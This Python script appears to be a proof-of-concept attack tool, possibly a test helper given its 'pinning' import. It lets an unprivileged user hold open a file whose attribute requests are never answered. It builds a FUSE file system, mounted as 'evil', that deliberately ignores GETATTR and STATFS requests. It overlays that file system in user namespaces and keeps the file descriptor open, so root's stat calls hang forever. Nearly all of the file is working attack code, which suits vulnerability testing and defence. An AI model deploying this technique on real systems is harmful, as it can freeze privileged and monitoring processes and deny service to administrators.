"""What an unprivileged user does so that whoever asks for the attributes of a file that they have open waits for ever.

    unanswered.py here GATE             have such a file open
    unanswered.py above GATE PLACE DIRECTORY   have a file of DIRECTORY open, by an overlay of that and of PLACE, where
                                             all may see such files
    unanswered.py exec GATE PROGRAM     the same, outside of any namespace of theirs, and become PROGRAM
    unanswered.py work GATE PROGRAM PLACE   become PROGRAM, listening at a port, in PLACE, where all may see such files

A file system of theirs in user space (FUSE) shows nothing to root, who is refused at once. But through an overlay above
it, in a user namespace, it is they themselves that seem to ask; and when there is a file GATE, nobody is answered.
Run as root, by its path; it becomes another user before it does anything, and says `holds` when the file is open.
"""

import os
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
pinning = __import__("pinning")

FORGET, GETATTR, STATFS, BATCH_FORGET = 2, 3, 17, 42
NONE, ABSENT = -38, -2  # ENOSYS, ENOENT


def about(node: int) -> bytes:
    """Return the attributes of the directory, or of the file in it."""
    mode = 0o40777 if node == 1 else 0o100666
    return struct.pack("=6Q10I", node, 4096, 1, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(fuse: int, gate: str) -> None:
    """Serve a file system with one file, `x`, whose attributes are to be asked for each time."""
    while True:
        data = os.read(fuse, 1 << 17)
        _, call, unique, node = struct.unpack_from("=IIQQ", data)
        if call in (FORGET, BATCH_FORGET) or (call in (GETATTR, STATFS) and os.path.exists(gate)):
            continue
        answer = {
            26: struct.pack("=4I2H2I2H8I", 7, 31, 0, 0, 16, 12, 1 << 16, 1, 1, 0, *[0] * 8),  # INIT
            1: struct.pack("=4Q2I", 2, 1, 0, 0, 0, 0) + about(2),  # LOOKUP
            GETATTR: struct.pack("=QII", 0, 0, 0) + about(node),
            14: struct.pack("=QII", 0, 0, 0),  # OPEN
            27: struct.pack("=QII", 0, 0, 0),  # OPENDIR
            STATFS: struct.pack("=5Q4I", 1, 1, 1, 1, 1, 4096, 255, 4096, 0) + bytes(24),
        }.get(call)
        missing = call == 1 and data[40:] == b"below\0"
        body = b"" if missing or not answer else answer
        os.write(fuse, struct.pack("=IiQ", 16 + len(body), ABSENT if missing else 0 if answer else NONE, unique) + body)


def shown_to_all(gate: str, place: str) -> socket.socket:
    """Work in a file system that root has mounted for us, as fusermount with `user_allow_other`; return a listener."""
    fuse = os.open("/dev/fuse", os.O_RDWR)
    whose = f"user_id={pinning.NOBODY},group_id={pinning.NOBODY},allow_other"
    pinning.mount("evil", place, "fuse", 0, f"fd={fuse},rootmode=40000,{whose}")
    pinning.become_nobody()
    if os.fork() == 0:
        serve(fuse, gate)
    os.close(fuse)
    os.chdir(place)
    return socket.create_server(("127.0.0.1", 0))


def opened(gate: str) -> int:
    """Make all that, in namespaces of our own, and return a descriptor of the file."""
    pinning.unshare()
    fuse = os.open("/dev/fuse", os.O_RDWR)
    pinning.mount("none", "/tmp", "tmpfs")
    for name in ("below", "empty", "shown"):
        os.mkdir(f"/tmp/{name}")
    pinning.mount("evil", "/tmp/below", "fuse", 0, f"fd={fuse},rootmode=40000,user_id=0,group_id=0")
    if os.fork() == 0:
        serve(fuse, gate)
    os.close(fuse)
    pinning.mount("evil", "/tmp/shown", "overlay", 0, "lowerdir=/tmp/below:/tmp/empty")
    return os.open("/tmp/shown/x", os.O_RDONLY)


def opened_above(gate: str, place: str, directory: str) -> int:
    """Return a descriptor of a file that lies in a directory, seen through an overlay whose first layer is ours."""
    shown_to_all(gate, place).close()
    os.stat(place)  # an overlay takes over whose it is, and who may enter it, as known then
    os.chdir("/")
    pinning.unshare()
    pinning.mount("none", "/tmp", "tmpfs")
    os.mkdir("/tmp/shown")
    pinning.mount("evil", "/tmp/shown", "overlay", 0, f"lowerdir={place}:{directory}")
    return os.open("/tmp/shown/below", os.O_RDONLY)


def main() -> None:
    """Do it, and stay."""
    how, gate, *program = sys.argv[1:]
    if how == "work":
        kept = shown_to_all(gate, program.pop()).detach()
    elif how == "above":
        kept = opened_above(gate, *program)
        program = []
    else:
        pinning.become_nobody()
    if how == "here":
        kept = opened(gate)
    elif how == "exec":
        ours, theirs = socket.socketpair()
        if os.fork() == 0:
            socket.send_fds(theirs, [b"x"], [opened(gate)])
            time.sleep(1000)
        kept = socket.recv_fds(ours, 1, 1)[1][0]
    print("holds", flush=True)
    if program:
        os.set_inheritable(kept, True)
        os.execv(program[0], [program[0], "1000"])
    time.sleep(1000)


if __name__ == "__main__":
    main()
